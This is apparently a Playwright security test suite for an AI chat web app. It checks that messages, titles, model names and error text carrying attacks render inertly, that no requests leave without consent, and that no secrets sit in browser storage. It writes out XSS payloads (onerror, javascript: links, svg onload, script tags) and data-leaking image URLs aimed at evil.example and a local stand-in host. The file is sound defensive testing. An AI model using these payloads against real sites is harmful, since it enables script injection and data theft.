import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext, Page } from "@playwright/test";
import { payloads } from "../components/chat/markdown/payloads.ts";
import { signUp } from "./support/accounts.ts";
import { startApp } from "./support/app.ts";
import { ask } from "./support/ask.ts";
import { chatOn, enter } from "./support/chat.ts";
import { expect, test } from "./support/fixtures.ts";
import { composeTurn } from "./support/turns.ts";
import { watchPolicy } from "./support/watch-policy.ts";

// What a model, a provider or a person may write that is meant to run, to load or to lead away.

/** Everything that must not have happened: a script that ran, a breach of the policy, a request that left. */
async function watch(context: BrowserContext, page: Page, appUrl: string): Promise<() => string[]> {
  const violations = await watchPolicy(context);
  const seen: string[] = [];
  await context.exposeFunction("ran", (which: unknown) => void seen.push(`ran ${which}`));
  page.on("dialog", (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("popup", (popup) => void seen.push(`popup ${popup.url()}`));
  context.on("request", (request) => {
    if (!request.url().startsWith(appUrl) && !/^(?:data|blob):/.test(request.url())) seen.push(request.url());
  });
  return () => [...seen, ...violations()];
}

/** Elements and attributes that no text may have become. */
function activeMarkup(page: Page): Promise<string[]> {
  return page.evaluate(() =>
    [...document.querySelectorAll("main *, nav *, [role=dialog] *, dialog *")].flatMap((element) => {
      const bad = /^(?:SCRIPT|IMG|IFRAME|OBJECT|EMBED|BASE|META|LINK|STYLE|VIDEO|AUDIO|MARQUEE|MATH|TEMPLATE|FRAME)$/i;
      const attributes = [...element.attributes].filter(
        ({ name, value }) =>
          name.startsWith("on") ||
          name === "srcdoc" ||
          (/^(?:href|src|action|formaction|data|poster|ping)$/.test(name) &&
            !/^(?:https?:|mailto:|\/|#|$)/.test(value)),
      );
      return bad.test(element.tagName) || attributes.length > 0 ? [element.outerHTML.slice(0, 200)] : [];
    }),
  );
}

/** Those that fit on one line. */
const short = payloads.filter((text) => text.length <= 150 && !/[\n\t\0]/.test(text));

const batches = Array.from({ length: 4 }, (_, part) =>
  payloads
    .filter((_text, index) => index % 4 === part)
    .join("\n\n")
    // the message box drops these
    .replaceAll("\0", ""),
);

test(`XM-1 XM-2 XM-3 XM-5 ${payloads.length} attacks as a person's and as a model's text run, break and fetch nothing`, async ({
  app,
  account,
  page,
  context,
  signIn,
}) => {
  test.setTimeout(180_000);
  await signIn(page, account);
  const happened = await watch(context, page, app.url);
  const chat = chatOn(page);
  await page.goto("/?model=local:scenario/repeat");
  let links = 0;
  for (const batch of batches) {
    const accepted = page.waitForResponse((response) => response.url().endsWith("/api/chat") && response.ok());
    await chat.send(batch);
    await accepted;
    await chat.waitFor("complete", 40);
    // what is farther up is not in the page any more
    expect(await activeMarkup(page)).toEqual([]);
    links += await chat.answer.locator("a[href]").count();
  }
  expect(links).toBeGreaterThan(10);
  // once more as the server renders it
  await page.reload();
  await chat.waitFor("complete");
  expect(await activeMarkup(page)).toEqual([]);
  // a person's text is text alone
  expect(await chat.questions.locator("a, strong, code, table").count()).toBe(0);
  expect(happened()).toEqual([]);
});

test("XM-1 attacks that come letter by letter are inert at each of them", async ({
  app,
  account,
  page,
  context,
  signIn,
}) => {
  test.setTimeout(120_000);
  await signIn(page, account);
  const happened = await watch(context, page, app.url);
  const chat = chatOn(page);
  await page.goto("/?model=local:scenario/repeat:size=1,delay=36");
  const attack =
    '<img src=x onerror=ran(1)> [a](javascript:ran(2)) ![b](https://evil.example/?d=1)\n\n<svg/onload=ran(3)> **[c](https://ok.example "t\\" onclick=ran(4)")**\n\n|<iframe src=javascript:ran(5)>|\n|-|\n|<https://evil.example/"onclick=ran(6)>|\n\n```html\n<script>ran(7)</script>\n```';
  // each state that the page goes through is looked at, from inside
  await page.evaluate(() => {
    const states: string[] = [];
    Object.assign(window, { states });
    new MutationObserver(() => {
      const answer = document.querySelector('article[data-role="assistant"] .markdown');
      if (!answer) return;
      states.push(answer.textContent ?? "");
      for (const element of answer.querySelectorAll("*")) {
        const attributes = element.getAttributeNames().filter((name) => /^on|^src|^style/.test(name));
        const href = element.getAttribute("href") ?? "";
        if (attributes.length > 0 || /^(?!https:|$)/.test(href) || /^(?:IMG|SCRIPT|IFRAME)$/.test(element.tagName))
          (window as unknown as { ran: (told: string) => void }).ran(element.outerHTML);
      }
    }).observe(document.body, { subtree: true, childList: true, characterData: true, attributes: true });
  });
  await chat.send(attack);
  await chat.waitFor("complete", 60);
  const states = await page.evaluate(() => new Set((window as unknown as { states: string[] }).states).size);
  expect(states).toBeGreaterThan(5);
  expect(happened()).toEqual([]);
});

test("XM-1 attacks as titles and as a provider's complaints", async ({
  app,
  account,
  page,
  context,
  signIn,
  clientFor,
}) => {
  test.setTimeout(180_000);
  const client = clientFor(account);
  const titles = short.filter((_text, index) => index % 48 === 0);
  const complaints = short.filter((_text, index) => index % 48 === 24);
  for (const title of titles) {
    const { turn } = await ask(client, "openai:scenario/quick");
    expect((await client.patch(`/api/conversations/${turn.conversationId}`, { title })).status).toBe(204);
  }
  let last = "";
  for (const complaint of complaints) {
    const turn = composeTurn(complaint, { modelId: "local:scenario/repeat-error" });
    await (await client.post("/api/chat", turn)).text();
    last = turn.conversationId;
  }
  await signIn(page, account);
  const happened = await watch(context, page, app.url);
  const chat = chatOn(page);
  await page.goto(`/c/${last}`);
  await chat.waitFor("failed");
  await expect(chat.line(titles[0] ?? "")).toBeVisible();
  expect(await activeMarkup(page)).toEqual([]);
  // each of them opened, for the title at the top and the alert below
  for (const link of (await chat.conversations.getByRole("link").all()).slice(0, titles.length + complaints.length)) {
    await link.click();
    expect(await activeMarkup(page)).toEqual([]);
  }
  expect(happened()).toEqual([]);
});

test("XM-1 attacks as names of models", async ({ page, context, provider }) => {
  test.setTimeout(120_000);
  for (const mount of ["openai", "openrouter", "local"] as const)
    provider.setListing(
      mount,
      short.map((name, index) => ({ id: `attack/${index}`, name, description: name })),
    );
  // lists are read when an app begins
  const app = await startApp({ provider });
  try {
    const happened = await watch(context, page, app.url);
    await enter(page, app, await signUp(app));
    await page.goto(`${app.url}/models`);
    await expect(page.getByRole("main")).toContainText(/onerror/i, { timeout: 30_000 });
    expect(await activeMarkup(page)).toEqual([]);
    await page.goto(app.url);
    await chatOn(page).modelButton.click();
    await page.getByRole("searchbox", { name: "Search models" }).fill("onerror");
    await expect(chatOn(page).models.first()).toContainText(/onerror/i);
    expect(await activeMarkup(page)).toEqual([]);
    expect(happened()).toEqual([]);
  } finally {
    await app.dispose();
  }
});

test("XM-5 XM-6 XM-7 nothing leaves the browser before a person has seen the host and agreed to it", async ({
  app,
  account,
  page,
  context,
  signIn,
}) => {
  await signIn(page, account);
  const happened = await watch(context, page, app.url);
  const elsewhere = await startElsewhere();
  const chat = chatOn(page);
  await page.goto("/?model=local:scenario/repeat");
  await chat.send(
    [
      `[https://bank.example/login](http://bank.example@${elsewhere.host}/?d=secret)`,
      `![A cat](${elsewhere.url}/cat.png?d=secret) ![by name][cat] <img src=${elsewhere.url}/1>`,
      `![proxied](${app.url}/_next/image?url=${encodeURIComponent(elsewhere.url)}&w=64&q=75)`,
      "[中文](https://例子.测试/) https://other.example/path",
      `[cat]: ${elsewhere.url}/cat.png?d=2`,
    ].join("\n\n"),
  );
  await chat.waitFor("complete");
  for (const link of await chat.answer.locator("a[href]").all()) {
    await expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
    await expect(link).toHaveAttribute("target", "_blank");
    await link.hover();
  }
  const response = await page.reload();
  expect(response?.headers()["x-dns-prefetch-control"]).toBe("off");
  const prepared = page.locator("link[rel*=dns-prefetch], link[rel*=preconnect]");
  // Next prepares the site's own address for fonts
  expect(
    await prepared.evaluateAll((all) => all.map((link) => new URL((link as HTMLLinkElement).href).origin)),
  ).toEqual(Array.from({ length: await prepared.count() }, () => app.url));

  // what a link says is not where it leads
  const dialog = page.getByRole("dialog", { name: "Open this link?" });
  const host = dialog.locator("strong").first();
  const deceiving = chat.answer.getByRole("link", { name: "https://bank.example/login" });
  for (const press of [
    () => deceiving.click(),
    () => deceiving.click({ button: "middle" }),
    () => deceiving.click({ modifiers: ["ControlOrMeta"] }),
    () => deceiving.press("Enter"),
  ]) {
    await press();
    await expect(host).toHaveText(elsewhere.host);
    await dialog.getByRole("button", { name: "Cancel" }).click();
    await expect(dialog).toBeHidden();
  }
  // letters of other scripts are spelt out
  await chat.answer.getByRole("link", { name: "中文" }).click();
  await expect(host).toHaveText("xn--fsqu00a.xn--0zwm56d");
  await page.keyboard.press("Escape");
  await expect(dialog).toBeHidden();
  expect(happened()).toEqual([]);
  expect(elsewhere.requests).toEqual([]);

  // agreed: a tab of its own that knows nothing of this one
  await chat.answer.getByRole("link", { name: "A cat" }).click();
  await dialog.getByRole("checkbox").check();
  const opened = context.waitForEvent("page");
  await dialog.getByRole("link", { name: "Open link" }).click();
  const tab = await opened;
  await expect(tab.getByText("elsewhere")).toBeVisible();
  expect(await tab.evaluate(() => [window.opener, document.referrer])).toEqual([null, ""]);
  await expect(dialog).toBeHidden();
  // and that host is not asked about again
  const again = context.waitForEvent("page");
  await chat.answer.getByRole("link", { name: "by name" }).click();
  await expect((await again).getByText("elsewhere")).toBeVisible();
  await expect(dialog).toBeHidden();
  const asked = elsewhere.requests.filter(({ path }) => path.startsWith("/cat"));
  expect(asked).toEqual([
    { path: "/cat.png?d=secret", referrer: undefined },
    { path: "/cat.png?d=2", referrer: undefined },
  ]);
  await elsewhere.close();
});

/** Another site, that notes who asks it for what. */
async function startElsewhere() {
  const requests: { path: string; referrer: string | undefined }[] = [];
  const server = createServer((request, response) => {
    requests.push({ path: request.url ?? "", referrer: request.headers.referer });
    response.setHeader("content-type", "text/html").end("<p>elsewhere</p>");
  });
  await once(server.listen(0, "127.0.0.1"), "listening");
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  const close = async () => {
    const closed = once(server, "close");
    server.close();
    server.closeAllConnections();
    await closed;
  };
  return { host, url: `http://${host}`, requests, close };
}

test("XM-8 XM-9 what a provider makes up is text or nothing; no session or key lies in the browser's stores", async ({
  app,
  account,
  page,
  context,
  signIn,
}) => {
  await signIn(page, account);
  const happened = await watch(context, page, app.url);
  const chat = chatOn(page);
  await page.goto("/?model=local:scenario/strange:tools=no");
  await chat.send("Something strange, please");
  await chat.waitFor("complete");
  await expect(chat.words).toHaveText("w0 w1");
  await chat.chooseModel("local:scenario/strange");
  await chat.send("And with a tool");
  await expect(chat.answers).toHaveCount(2);
  await expect(chat.answer).toHaveAttribute("data-status", /complete|failed|interrupted/);
  await expect(chat.answer).toContainText("w0");
  expect(await activeMarkup(page)).toEqual([]);
  expect(happened()).toEqual([]);

  const stored = await page.evaluate(async () => {
    const databases = await indexedDB.databases();
    const records: unknown[] = [];
    for (const { name } of databases) {
      if (!name) continue;
      const database = await new Promise<IDBDatabase>((resolve, reject) => {
        const request = indexedDB.open(name);
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
      for (const store of database.objectStoreNames) {
        const request = database.transaction(store).objectStore(store).getAll();
        await new Promise((resolve) => request.addEventListener("success", resolve));
        records.push(store, request.result);
      }
      database.close();
    }
    return JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, records]);
  });
  const secrets = account.cookie.split("; ").map((pair) => decodeURIComponent(pair.slice(pair.indexOf("=") + 1)));
  for (const secret of secrets) {
    expect(secret.length).toBeGreaterThan(20);
    // a session's token is what comes before its signature
    expect(stored).not.toContain(secret.split(".")[0]);
  }
  expect(stored).not.toMatch(/sk-|api[_-]?key|session_token|password/i);
});
